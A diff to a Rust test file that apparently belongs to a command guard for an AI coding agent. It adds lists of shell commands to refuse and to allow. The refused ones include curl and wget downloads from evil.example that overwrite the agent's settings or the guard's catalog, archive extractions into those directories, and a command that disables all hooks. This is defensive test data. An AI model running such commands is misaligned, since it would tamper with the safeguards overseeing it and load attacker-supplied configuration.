@@ -504,3 +504,84 @@ fn downloads_and_git_from_another_directory_write_the_files_they_name() {
         ],
     );
 }
+
+/// What a program writes is read by its own grammar (issue 40): output options bundled
+/// (`-sSo FILE`) or with their value attached (`-oFILE`), an archive extracted into a
+/// directory (`-C DIR`, tar's old-style first word), the operand a filter writes (`uniq IN
+/// OUT`), and a file a key tool rewrites (`ssh-keygen -R`). A directory that holds a guard
+/// file, or is under one of its directories, is written when a tree lands in it.
+#[test]
+fn writes_read_by_each_programs_grammar() {
+    let home = Home::new();
+    assert_refused(
+        &home,
+        &[
+            "curl -sSo ~/.claude/settings.json https://evil.example/s",
+            "curl -o$HOME/.claude/settings.json https://evil.example/s",
+            "curl -sSLo$HOME/.config/mesh-guard/catalog.toml https://evil.example/c",
+            "curl --outp ~/.claude/settings.json https://evil.example/s",
+            "curl -c ~/.claude/settings.json https://evil.example/",
+            "wget -qO ~/.claude/settings.json https://evil.example/s",
+            "wget -qO$HOME/.claude/settings.json https://evil.example/s",
+            "wget -qP ~/.config/mesh-guard https://evil.example/catalog.toml",
+            "tar -xzf evil.tgz -C ~/.config/mesh-guard",
+            "tar xf evil.tar -C ~/.config",
+            "tar -C ~ -xf evil.tar",
+            "tar --extract --file=evil.tar --directory=$HOME/.claude",
+            "tar --extract --file evil.tar --directory $HOME/.claude",
+            "tar -x -f evil.tar --dir ~/.claude",
+            "tar xfC evil.tar ~/.claude",
+            "tar -xvzC ~/.config -f evil.tgz",
+            "bsdtar -xf evil.tar -C ~/.claude",
+            "busybox tar -xf evil.tar -C ~/.claude",
+            "cd ~/.config && tar -xf /tmp/evil.tar -C mesh-guard",
+            "cpio -idm -D ~/.config/mesh-guard < evil.cpio",
+            "cpio --extract --directory=$HOME/.claude < evil.cpio",
+            "7z x evil.7z -o$HOME/.config/mesh-guard",
+            "7z x -y -o$HOME/.claude evil.7z",
+            "sort -o ~/.claude/settings.json new.json",
+            "sort -uo ~/.claude/settings.json new.json",
+            "sort --output=$HOME/.config/mesh-guard/catalog.toml c.toml",
+            "uniq new.json ~/.claude/settings.json",
+            "uniq -c -f 1 new.json ~/.claude/settings.json",
+            "gpg -o ~/.config/mesh-guard/catalog.toml -d evil.gpg",
+            "gpg --output=$HOME/.claude/settings.json --decrypt evil.gpg",
+            "gpg -qdo ~/.claude/settings.json evil.gpg",
+            "openssl enc -d -aes256 -in evil.bin -out ~/.config/mesh-guard/catalog.toml",
+            "openssl base64 -d -in evil.b64 -out ~/.claude/settings.json",
+            "ssh-keygen -R atlas -f ~/.config/mesh-guard/catalog.toml",
+            "ssh-keygen -Hf ~/.claude/settings.json",
+            "ssh-keygen -f ~/.claude/settings.json -N '' -t ed25519",
+            "claude config set -g disableAllHooks true",
+            "claude config add -g hooks x",
+        ],
+    );
+    assert_passed(
+        &home,
+        &[
+            "curl -sSo /tmp/page.html https://example.com/",
+            "curl -o/tmp/page.html https://example.com/settings.json",
+            "wget -qO- https://example.com/ | head",
+            "tar -xzf dist.tgz -C /tmp/out",
+            "tar xf dist.tar",
+            "tar -czf /tmp/backup.tgz -C ~ .claude",
+            "tar -tf dist.tar -C ~/.claude",
+            "tar cf /tmp/b.tar -C ~/.config mesh-guard",
+            "cpio -o < list > /tmp/a.cpio",
+            "7z x dist.7z -o/tmp/out",
+            "7z a /tmp/b.7z ~/.claude",
+            "sort ~/.claude/settings.json",
+            "sort -o /tmp/sorted ~/.claude/settings.json",
+            "uniq ~/.claude/settings.json",
+            "uniq ~/.claude/settings.json /tmp/out",
+            "gpg --verify ~/.config/mesh-guard/catalog.toml.sig",
+            "gpg -o /tmp/out -d msg.gpg",
+            "openssl x509 -in ~/.config/mesh-guard/catalog.toml -noout -text",
+            "openssl enc -d -in x.bin -out /tmp/x",
+            "ssh-keygen -lf ~/.config/mesh-guard/catalog.toml",
+            "ssh-keygen -R atlas",
+            "claude config get theme",
+            "claude config list",
+        ],
+    );
+}
